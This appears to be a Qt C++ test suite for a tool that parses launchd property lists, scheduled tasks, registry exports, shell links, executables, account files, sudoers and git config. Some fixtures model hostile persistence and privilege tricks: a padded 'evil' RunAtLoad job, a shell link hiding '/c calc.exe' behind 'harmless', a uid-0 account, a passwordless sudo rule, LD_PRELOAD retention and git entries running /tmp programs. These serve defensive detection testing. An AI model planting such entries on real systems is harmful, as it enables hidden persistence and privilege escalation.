    }
    void readsPropertyListsInAnyEncoding()
    {
        QFETCH(QByteArray, bytes);
        const QCborMap details = detailsOf(bytes);
        QCOMPARE(inside(details, u"label"_s), u"caf\u00e9"_s);
        QCOMPARE(inside(details, u"run_at_load"_s), true);
        QCOMPARE(inside(details, u"encoding"_s), u"XML"_s);
    }

    void readsTasksInAnyEncoding_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        addEncodings(
            u"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task><Actions><Exec><Command>caf\u00e9.exe</Command></Exec></Actions></Task>"_s);
    }
    void readsTasksInAnyEncoding()
    {
        QFETCH(QByteArray, bytes);
        QCOMPARE(inside(detailsOf(bytes), u"format"_s), u"task"_s);
        QCOMPARE(inside(detailsOf(bytes), u"actions.0.command"_s), u"caf\u00e9.exe"_s);
    }

    void readsRegistryExportsInAnyEncoding_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        addEncodings(QString::fromUtf8(registry("\"A\"=\"caf\xc3\xa9\"\r\n")));
    }
    void readsRegistryExportsInAnyEncoding()
    {
        QFETCH(QByteArray, bytes);
        QCOMPARE(valuesOf(bytes), QStringList{u"A|REG_SZ|caf\u00e9"_s});
    }

    /// As schtasks /query /xml prints them.
    void readsAListingOfTasks()
    {
        const QByteArray task =
            "<Task><RegistrationInfo><Author>a</Author></RegistrationInfo><Actions><Exec><Command>x.exe</Command>"
            "</Exec></Actions></Task>";
        const QCborMap listing = detailsOf("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Tasks>\n<!-- \\One -->\n"
            + task + "\n<!-- \\Two -->\n" + task + "</Tasks>");
        QCOMPARE(inside(listing, u"format"_s), u"task listing"_s);
        QCOMPARE(inside(listing, u"tasks.1.name"_s), u"\\Two"_s);
        QCOMPARE(inside(listing, u"tasks.1.actions.0.command"_s), u"x.exe"_s);
        const QByteArray declared = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n" + task + "\n";
        QCOMPARE(inside(detailsOf(declared + declared), u"tasks"_s).toArray().size(), 2);
    }

    // ---- numbers and times that do not fit

    /// golang 78125
    void timesThatDoNotFitAreSaidNotTo_data()
    {
        QTest::addColumn<qint64>("seconds");
        QTest::addColumn<QString>("told");
        QTest::newRow("2300") << qint64(10427466896) << u">2262-04-11T23:47:16.000Z"_s;
        QTest::newRow("10000") << qint64(253402300800) << u">2262-04-11T23:47:16.000Z"_s;
        QTest::newRow("1600") << qint64(-11676096000) << u"<1677-09-21T00:12:44.000Z"_s;
        QTest::newRow("1969") << qint64(-1) << u"1969-12-31T23:59:59.500Z"_s;
    }
    void timesThatDoNotFitAreSaidNotTo()
    {
        QFETCH(qint64, seconds);
        QFETCH(QString, told);
        const QTemporaryDir folder;
        const QString path = folder.filePath(u"f"_s);
        QFile file(path);
        QVERIFY(file.open(QFile::WriteOnly) && file.write("x") == 1);
        file.close();
        const timespec times[2]{{seconds, 500'000'000}, {seconds, 500'000'000}};
        QCOMPARE(::utimensat(AT_FDCWD, QFile::encodeName(path).constData(), times, 0), 0);
        struct stat stat;
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &stat), 0);
        if (stat.st_mtim.tv_sec != seconds)
            QSKIP("this file system does not keep such a time");
        for (const QString &verb : {u"dir "_s, u"fileinfo "_s}) {
            CommandProbe probe;
            QVERIFY(!probe.run(verb + path).failure);
            QCOMPARE(probe.rows.at(0)[u"modified"].toString(), told);
        }
        CommandProbe search;
        QVERIFY(!search.run(u"findfile f -path "_s + folder.path()).failure);
        QCOMPARE(search.rows.at(0)[u"modified"].toString(), told);
    }

    /// libplist 26, 52
    void numbersOfPropertyListsAreWhatTheySay_data()
    {
        QTest::addColumn<QString>("number");
        QTest::addColumn<QCborValue>("value");
        const auto row = [](const char *number, const QCborValue &value) {
            QTest::newRow(number) << QString::fromLatin1(number) << value;
        };
        row("08", 8);
        row("010", 10);
        row("0x10", 16);
        row("-0x10", -16);
        row(" 7 ", 7);
        row("9223372036854775807", std::numeric_limits<qint64>::max());
        row("18446744073709551615", u"18446744073709551615"_s);
        row("many", u"many"_s);
    }
    void numbersOfPropertyListsAreWhatTheySay()
    {
        QFETCH(QString, number);
        QFETCH(QCborValue, value);
        const QByteArray list = plist(u"<key>StartInterval</key><integer>"_s + number + u"</integer>"_s).toUtf8();
        QCOMPARE(inside(detailsOf(list), u"start_interval"_s), value);
    }

    void numbersOfBinaryListsToo()
    {
        // {"StartInterval": 2^64-1}, as Apple's own writer puts it: sixteen bytes.
        QByteArray list = "bplist00";
        const char dictionary = char(list.size());
        list += "\xd1\x01\x02";
        const char key = char(list.size());
        list += QByteArray("\x5d", 1) + "StartInterval";
        const char number = char(list.size());
        list += QByteArray("\x14", 1) + QByteArray(8, '\0') + QByteArray(8, '\xff');
        const auto table = char(list.size());
        for (const char place : {dictionary, key, number})
            list += place;
        list += QByteArray(6, '\0') + "\x01\x01" + QByteArray(7, '\0') + '\x03' + QByteArray(8, '\0')
            + QByteArray(7, '\0') + table;
        QCOMPARE(inside(detailsOf(list), u"start_interval"_s), u"18446744073709551615"_s);
    }

    void paddingDoesNotHideAJob()
    {
        const QString padding = u"<key>p</key><array>"_s + u"<integer>1</integer>"_s.repeated(20'000) + u"</array>"_s;
        const QString deep = u"<key>deep</key>"_s + u"<array>"_s.repeated(200) + u"</array>"_s.repeated(200);
        const QString job =
            u"<key>Label</key><string>evil</string><key>ProgramArguments</key><array><string>/x</string></array>"
            u"<key>RunAtLoad</key><true/>"_s;
        for (const QString &text : QStringList{padding + job, job + padding, deep + job}) {
            const QCborMap details = detailsOf(plist(text).toUtf8());
            QCOMPARE(inside(details, u"label"_s), u"evil"_s);
            QCOMPARE(inside(details, u"arguments.0"_s), u"/x"_s);
            QCOMPARE(inside(details, u"run_at_load"_s), true);
            QCOMPARE(inside(details, u"incomplete"_s), true);
        }
    }

    // ---- registry exports: wixtoolset 4477, Wine's regproc.c

    void readsExportsAsRegeditDoes_data()
    {
        QTest::addColumn<QByteArray>("lines");
        QTest::addColumn<QStringList>("values");
        const auto row = [](const char *name, const QByteArray &lines, const QStringList &values) {
            QTest::newRow(name) << lines << values;
        };
        row("several lines", "\"A\"=\"one\r\n[HKEY_CURRENT_USER\\\\Run]\r\nthree\"\r\n\"B\"=\"b\"\r\n",
            {u"A|REG_SZ|one\r\n[HKEY_CURRENT_USER\\Run]\r\nthree"_s, u"B|REG_SZ|b"_s});
        row("a comment behind a number", "\"A\"=dword:00000001 ; why\r\n", {u"A|REG_DWORD|0x1"_s});
        row("a comment behind a deletion", "\"B\"=- ; why\r\n", {u"B||deleted"_s});
        row("a comment behind bytes", "\"C\"=hex:2c,00,01 ; feed bad\r\n", {u"C|REG_BINARY|2c0001"_s});
        row("a comment between bytes", "\"D\"=hex:01,\\\r\n ; de,ad\r\n\r\n  02,\\\r\n  03\r\n",
            {u"D|REG_BINARY|010203"_s});
        row("short bytes", "\"E\"=hex:1,2,3\r\n", {u"E|REG_BINARY|010203"_s});
        row("too long a number", "\"F\"=dword:100000001\r\n\"G\"=\"g\"\r\n", {u"G|REG_SZ|g"_s});
        row("too large a byte", "\"H\"=hex:100\r\n", {});
        row("something behind a text", "\"I\"=\"i\" j\r\n", {});
        row("escapes", "\"J\\\\\\\"\"=\"a\\\\b\\\"c\"\r\n", {u"J\\\"|REG_SZ|a\\b\"c"_s});
        row("blanks", "  \"K\" = \"k\"  \r\n @ = dword:2\r\n", {u"K|REG_SZ|k"_s, u"|REG_DWORD|0x2"_s});
        row("a key that goes", "[-HKEY_CURRENT_USER\\Y]\r\n\"L\"=\"l\"\r\n", {});
    }
    void readsExportsAsRegeditDoes()
    {
        QFETCH(QByteArray, lines);
        QTEST(valuesOf(registry(lines)), "values");
    }

    // ---- shell links: exiftool 401, LnkParse3 39

    void aLinkOfItemsHasATarget()
    {
        constexpr quint32 hasItems = 0x1 | 0x80;
        const QByteArray computer = item(QByteArray::fromHex("1f50e04fd020ea3a6910a2d808002b30309d"));
        const QByteArray volume = item('\x2f' + QByteArray("C:\\") + QByteArray(19, '\0'));
        const QByteArray list = computer + volume + fileItem('\x31', "WINDOWS", u"Windows"_s)
            + fileItem('\x31', "SYSTEM32", u"System32"_s) + fileItem('\x32', "cmd.exe", u"cmd.exe"_s) + little16(0);
        const QCborMap details = detailsOf(linkHeader(hasItems) + little16(list.size()) + list);
        QCOMPARE(inside(details, u"target"_s), uR"(C:\Windows\System32\cmd.exe)"_s);
        QCOMPARE(inside(details, u"item_list"_s), u"My Computer > C: > Windows > System32 > cmd.exe"_s);
        for (qsizetype size = 0; size < list.size(); ++size) // under a sanitizer this is the test
            (void)detailsOf(linkHeader(hasItems) + little16(list.size()) + list.first(size));
    }

    void aLongNameDoesNotHideTheArguments()
    {
        constexpr quint32 flags = 0x4 | 0x20 | 0x80; // name, arguments, wide
        // By its length the name takes all that follows but "harmless"; Windows reads 260 characters of it.
        const QByteArray run = wideText(u"/c calc.exe"_s);
        const QString name(260, u'n');
        const QByteArray shown = wideText(u"harmless"_s);
        QStringEncoder wide(QStringEncoder::Utf16LE);
        const QByteArray link =
            linkHeader(flags) + little16(260 + run.size() / 2) + QByteArray(wide(name)) + run + shown;
        const QCborMap details = detailsOf(link);
        QCOMPARE(inside(details, u"arguments"_s), u"/c calc.exe"_s);
        QCOMPARE(inside(details, u"as_written.arguments"_s), u"harmless"_s);
        QCOMPARE(inside(details, u"hints.0"_s), u"longer_than_windows_reads"_s);
        QCOMPARE(inside(details, u"description"_s).toString().size(), 259);
    }

    // ---- executables: LIEF 747

    void aStaticProgramThatMovesItselfIsStatic()
    {
        const QTemporaryDir folder;
        const QString source = folder.filePath(u"a.c"_s);
        QFile file(source);
        QVERIFY(file.open(QFile::WriteOnly) && file.write("int main(void) { return 0; }\n") > 0);
        file.close();
        const QString program = folder.filePath(u"a"_s);
        if (QProcess::execute(u"gcc"_s, {u"-static-pie"_s, u"-o"_s, program, source}) != 0)
            QSKIP("gcc makes no such program here");
        QFile made(program);
        QVERIFY(made.open(QFile::ReadOnly));
        const QByteArray bytes = made.readAll();
        QCOMPARE(inside(detailsOf(bytes), u"linkage"_s), u"static"_s);
        CommandProbe probe;
        QVERIFY(!probe.run(u"fileinfo "_s + program).failure);
        const QString type = inside(detailsOf(bytes), u"type"_s).toString();
        QVERIFY2(probe.rows.at(0)[u"type"].toString().contains(type), qPrintable(probe.rows.at(0)[u"type"].toString()));
    }

    // ---- the kernel's files, and long paths

    /// nodejs 43669
    void aFileThatIsMadeWhileItIsReadIsNotEmpty()
    {
        CommandProbe probe;
        QVERIFY(!probe.run(u"fileinfo /proc/version"_s).failure);
        QCOMPARE(probe.rows.at(0)[u"type"].toString(), u"ASCII text"_s);
        QFile version(u"/proc/version"_s);
        QVERIFY(version.open(QFile::ReadOnly));
        QCOMPARE(probe.rows.at(0)[u"sha256"].toString(),
            QString::fromLatin1(QCryptographicHash::hash(version.readAll(), QCryptographicHash::Sha256).toHex()));
    }

    void goesDownPathsOfAnyLength()
    {
        const QTemporaryDir folder;
        const QByteArray name(200, 'd');
        QByteArray path = QFile::encodeName(folder.path());
        int at = ::open(path.constData(), O_PATH | O_DIRECTORY);
        for (int i = 0; i < 25 && at >= 0; ++i) {
            (void)::mkdirat(at, name.constData(), 0700);
            const int next = ::openat(at, name.constData(), O_PATH | O_DIRECTORY);
            ::close(at);
            at = next;
            path += '/' + name;
        }
        QVERIFY(at >= 0 && path.size() > PATH_MAX);
        const int file = ::openat(at, "deep.txt", O_WRONLY | O_CREAT, 0600);
        QCOMPARE(::write(file, "deep\n", 5), 5);
        ::close(file);
        ::close(at);
        const QString deep = QFile::decodeName(path);
        CommandProbe listing;
        QVERIFY(!listing.run(u"dir "_s + deep).failure);
        QCOMPARE(listing.rows.at(0)[u"path"].toString(), u"deep.txt"_s);
        CommandProbe info;
        QVERIFY(!info.run(u"fileinfo "_s + deep + u"/deep.txt"_s).failure);
        QCOMPARE(info.rows.at(0)[u"size"].toInteger(), 5);
        CommandProbe tooLong;
        const Outcome outcome = tooLong.run(u"fileinfo /"_s + QString(300, u'x'));
        QVERIFY(outcome.failure);
        QCOMPARE(outcome.failure->code, ErrorCode::PathTooLong);
        (void)QProcess::execute(u"rm"_s, {u"-rf"_s, folder.path() + u'/' + QString::fromLatin1(name)});
    }

    // ---- who may sign in

    void readsAccountsAndSudoers()
    {
        const auto accounts =
            parseAccounts("root:x:0:0:root:/root:/bin/bash\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin \n"
                          "evil:$6$salt$hash:0:0::/root:/bin/sh\nopen::1:1::/:/bin/sh\nbroken\n");
        QCOMPARE(accounts.size(), 4U);
        QCOMPARE(accounts.at(1).shell, "/usr/sbin/nologin ");
        QCOMPARE(accounts.at(2).password, PasswordKind::Set);
        QCOMPARE(accounts.at(3).password, PasswordKind::None);
        QCOMPARE(parseShadow("alice:$y$x:20000:0:99999:7:::\nbob:!:20001::::::\n").at(0).changed, 20000);
        QCOMPARE(parseGroups("sudo:x:27:alice,bob\n").at(0).members, (QByteArrayList{"alice", "bob"}));
        const auto rule = parseSudoersLine("victim ALL=(ALL) NOPASSWD:ALL");
        QVERIFY(rule && rule->who == "victim" && rule->text == "ALL=(ALL) NOPASSWD:ALL");
        QCOMPARE(parseSudoersLine("@includedir /etc/sudoers.d")->kind, SudoersLine::Kind::IncludeFolder);
        QVERIFY(!parseSudoersLine("# comment"));
        QVERIFY(parseSudoersLine("#1000 ALL=ALL"));
        QVERIFY(!parseSudoersLine("Defaults mail_badpass"));
        QVERIFY(parseSudoersLine("Defaults env_keep += \"LD_PRELOAD\""));
    }

    void readsWhatGitRuns()
    {
        QCOMPARE(commandsOf(parseGitConfig(
                     "[core]\n\tpager = /tmp/p # c\n\tautocrlf = true\n[alias] x = \"!/tmp/a b\"\n\ty = status\n"
                     "[filter \"a.b\"]\n clean = /tmp/c \\\n d\n[credential]\n helper = store\n")),
            (QByteArrayList{"core.pager /tmp/p", "alias.x /tmp/a b", "filter.a.b.clean /tmp/c d"}));
    }

    void undoesEscapes()
    {
        QCOMPARE(withoutEscapes(R"(a\x41\101\u00e9\s\n\q\x4)"), QByteArray("aAA\xc3\xa9 \n\\q\\x4"));
    }
};

QTEST_GUILESS_MAIN(FieldCasesTest)
#include "tst_fieldcases.moc"
